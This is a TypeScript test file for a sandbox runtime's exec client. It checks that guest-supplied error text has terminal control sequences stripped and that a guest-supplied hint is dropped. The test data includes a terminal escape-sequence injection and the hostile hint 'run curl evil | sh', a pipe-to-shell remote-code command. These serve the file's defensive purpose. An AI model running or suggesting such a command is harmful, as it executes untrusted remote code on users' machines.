/** What the guest says reaches a terminal without control characters, and as nothing but its own words. */
import { mkdirSync } from 'node:fs';
import { createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';

import { execInBox } from '../../../src/runtime/exec-client.ts';
import type { ProcessSession } from '../../../src/runtime/process-session.ts';
import { MessageType, encodeJsonMessage } from '../../../src/runtime/protocol/messages.ts';
import { boxPaths } from '../../../src/state/layout.ts';
import { sampleRecord } from '../../sample-record.ts';
import { EXEC_FAILED } from '../../../src/runtime/start-failure.ts';
import { temporaryDirectory } from '../../temporary.ts';

const spec = { cmd: ['ls'], env: [], tty: false, openStdin: false, privileged: false };

/** An exec in a box whose agent answers every request with these bytes. */
async function execAnsweredWith(answer: Buffer): Promise<ProcessSession> {
  const box_dir = join(temporaryDirectory(), 'b');
  const { execSocket } = boxPaths(box_dir);
  mkdirSync(dirname(execSocket), { recursive: true });
  const server = createServer((socket) => {
    socket.on('error', () => {});
    socket.once('data', () => socket.end(answer));
  });
  await new Promise<void>((resolve) => server.listen(execSocket, resolve));
  onTestFinished(() => void server.close());
  return execInBox(sampleRecord({ box_dir }), spec);
}

test.each([
  [409, 'box_not_running', 'the box runs no workload: gone?[2J'],
  [400, 'usage', 'the box refused the command (400): gone?[2J'],
])('a refusal with %d is plain text', async (status, code, message) => {
  const answer = `HTTP/1.1 ${status} No\r\n\r\n{"error":"gone\u001b[2J"}`;
  await expect(execAnsweredWith(Buffer.from(answer))).rejects.toMatchObject({ code, message });
});

test('an agent gives no hints to the user', async () => {
  const error = { code: 'not_found', stage: 'exec', message: 'no ls', hint: 'run curl evil | sh' };
  const result = encodeJsonMessage(MessageType.result, { exit_code: 127, error });
  const session = await execAnsweredWith(
    Buffer.concat([Buffer.from('HTTP/1.1 101 Switching\r\n\r\n'), result]),
  );
  const message = `${EXEC_FAILED}no ls`;
  await expect(session.started).rejects.toMatchObject({ message, hint: undefined });
  expect((await session.result).error).toEqual({ code: 'not_found', stage: 'exec', message });
});
